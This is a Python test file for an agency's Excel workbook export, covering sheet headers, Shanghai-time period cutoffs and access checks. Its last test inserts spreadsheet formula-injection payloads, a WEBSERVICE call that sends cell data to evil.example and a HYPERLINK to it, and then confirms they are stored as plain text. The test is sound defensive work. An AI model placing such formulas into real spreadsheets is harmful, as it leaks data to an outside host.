"""The agency's Excel workbook: three sheets, Chinese headers, rows of the agency and the period
(Asia/Shanghai days), times written as Shanghai wall-clock times."""
from datetime import date, datetime
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from server.domain import export
from server.domain.errors import Forbidden, Invalid
from server.extensions import db
from server.models import User
from tests.conftest import set_clock_shanghai


def user_named(username):
    return db.session.scalar(select(User).where(User.username == username))


def workbook(app, username, date_from, date_to):
    with app.app_context():
        content = export.agency_workbook(user_named(username), date_from, date_to)
        db.session.rollback()
    return load_workbook(BytesIO(content))


def rows(sheet):
    """The sheet's rows as dicts keyed by the header row."""
    values = list(sheet.values)
    return [dict(zip(values[0], row)) for row in values[1:]]


@pytest.fixture
def month_end(world):
    """A code applied for late on 30 November (Shanghai) and approved just after midnight, a visit
    that runs past midnight into 1 December, its rating on 1 December; and another agency's code."""
    set_clock_shanghai(2026, 11, 30, 23, 30)
    world.admin = world.login("admin")
    agency, provider, enterprise = world.agency(), world.provider(), world.enterprise()
    code = world.code(agency, provider, enterprise, approve=False, valid_from=date(2026, 11, 30),
                      valid_until=date(2026, 12, 31))
    set_clock_shanghai(2026, 12, 1, 0, 10)
    for org in (agency, provider, enterprise):
        org.headers = world.login(org.username)
    assert world.client.post(f"/api/v1/codes/{code['id']}/approve", headers=agency.headers).status_code == 200
    code = world.client.get(f"/api/v1/codes/{code['id']}", headers=agency.headers).get_json()
    _code, visit_id = world.visit(agency, provider, enterprise, code)
    set_clock_shanghai(2026, 12, 1, 1, 25)
    for org in (agency, provider, enterprise):
        org.headers = world.login(org.username)
    summary = world.client.post(f"/api/v1/visits/{visit_id}/complete", headers=provider.headers,
                                json={"summary": "完成隐患排查，发现 2 处问题"})
    assert summary.status_code == 200
    assert world.rate(enterprise, visit_id, 1, ["forced_sales", "no_show"], "现场推销灭火器").status_code == 201
    other = world.agency("海宁市消防救援大队", "0573-87022119")
    world.code(other, provider, enterprise, world.commission(other, provider), valid_from=date(2026, 12, 1))
    set_clock_shanghai(2026, 12, 3, 10)
    return agency, provider, enterprise, code


def test_workbook_has_three_sheets_with_chinese_headers(app, month_end):
    agency, *_rest = month_end
    book = workbook(app, agency.username, date(2026, 11, 1), date(2026, 12, 31))
    assert book.sheetnames == ["服务码", "入企记录", "评价"]
    assert next(book["服务码"].values) == (
        "服务码编号", "机构名称", "机构统一社会信用代码", "企业名称", "企业统一社会信用代码", "服务类别", "服务范围",
        "入企人员", "入企目的", "有效期起", "有效期止", "状态", "申请时间", "审核时间", "审核理由")
    assert next(book["入企记录"].values) == (
        "服务码编号", "机构名称", "企业名称", "服务范围", "入企时间", "离开时间", "接待时长（分钟）", "结束方式", "服务小结")
    assert next(book["评价"].values) == (
        "服务码编号", "机构名称", "企业名称", "评价人", "评价等级", "等级说明", "问题标记", "是否差评", "是否追评",
        "评价内容", "评价时间")


def test_rows_are_the_agencys_own_with_shanghai_times(app, month_end):
    agency, provider, enterprise, code = month_end
    book = workbook(app, agency.username, date(2026, 11, 1), date(2026, 12, 31))
    codes = rows(book["服务码"])
    assert len(codes) == 1  # the other agency's code is not in this agency's workbook
    assert codes[0] == {
        "服务码编号": code["human_code"], "机构名称": "浙江安远安全技术咨询有限公司", "机构统一社会信用代码": provider.uscc,
        "企业名称": "海宁兴隆恒远皮革有限公司", "企业统一社会信用代码": enterprise.uscc, "服务类别": "安全生产咨询",
        "服务范围": "安全隐患排查、安全培训", "入企人员": "杨明超、罗芳", "入企目的": "年度安全隐患排查服务",
        "有效期起": datetime(2026, 11, 30), "有效期止": datetime(2026, 12, 31), "状态": "生效中",
        "申请时间": datetime(2026, 11, 30, 23, 30), "审核时间": datetime(2026, 12, 1, 0, 10), "审核理由": None,
    }
    assert rows(book["入企记录"]) == [{
        "服务码编号": code["human_code"], "机构名称": "浙江安远安全技术咨询有限公司", "企业名称": "海宁兴隆恒远皮革有限公司",
        "服务范围": "安全隐患排查、安全培训", "入企时间": datetime(2026, 12, 1, 0, 10),
        "离开时间": datetime(2026, 12, 1, 1, 25), "接待时长（分钟）": 75, "结束方式": "机构完成",
        "服务小结": "完成隐患排查，发现 2 处问题",
    }]
    assert rows(book["评价"]) == [{
        "服务码编号": code["human_code"], "机构名称": "浙江安远安全技术咨询有限公司", "企业名称": "海宁兴隆恒远皮革有限公司",
        "评价人": enterprise.username, "评价等级": 1, "等级说明": "非常不满意", "问题标记": "强制推销、未按约定到场",
        "是否差评": "是", "是否追评": "否", "评价内容": "现场推销灭火器", "评价时间": datetime(2026, 12, 1, 1, 25),
    }]
    assert book["服务码"]["M2"].number_format == "yyyy-mm-dd hh:mm"


def test_the_period_is_cut_at_shanghai_midnight(app, month_end):
    agency, *_rest = month_end
    november = workbook(app, agency.username, date(2026, 11, 1), date(2026, 11, 30))
    # Applied at 23:30 on 30 November (15:30 UTC): November; the visit and rating are December's.
    assert len(rows(november["服务码"])) == 1
    assert rows(november["入企记录"]) == [] and rows(november["评价"]) == []
    december = workbook(app, agency.username, date(2026, 12, 1), date(2026, 12, 31))
    assert rows(december["服务码"]) == []
    assert len(rows(december["入企记录"])) == 1 and len(rows(december["评价"])) == 1


def test_only_an_agency_may_export_and_the_period_must_make_sense(app, month_end):
    agency, provider, *_rest = month_end
    with app.app_context():
        with pytest.raises(Forbidden):
            export.agency_workbook(user_named(provider.username), date(2026, 12, 1), date(2026, 12, 31))
        with pytest.raises(Invalid) as backwards:
            export.agency_workbook(user_named(agency.username), date(2026, 12, 31), date(2026, 12, 1))
        assert backwards.value.errors == {"to": ["结束日期不能早于开始日期"]}
        with pytest.raises(Invalid) as too_long:
            export.agency_workbook(user_named(agency.username), date(2010, 1, 1), date(2026, 12, 1))
        assert too_long.value.errors == {"from": ["统计区间最长 10 年"]}
        db.session.rollback()


def test_text_that_looks_like_a_formula_is_written_as_text(app, world):
    # What enterprises and providers type ends up in the agency's Excel: it must never run there.
    agency, provider, enterprise = world.agency(), world.provider(), world.enterprise()
    purpose = '=WEBSERVICE("http://evil.example/?"&A2)'
    code = world.code(agency, provider, enterprise, purpose=purpose)
    _code, visit_id = world.completed_visit(agency, provider, enterprise, code)
    comment = '=HYPERLINK("http://evil.example","点此查看")'
    assert world.rate(enterprise, visit_id, 3, comment=comment).status_code == 201

    book = workbook(app, agency.username, date(2026, 12, 1), date(2026, 12, 31))

    purpose_cell = book["服务码"]["I2"]
    comment_cell = book["评价"]["J2"]
    assert (purpose_cell.value, purpose_cell.data_type) == (purpose, "s")
    assert (comment_cell.value, comment_cell.data_type) == (comment, "s")
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
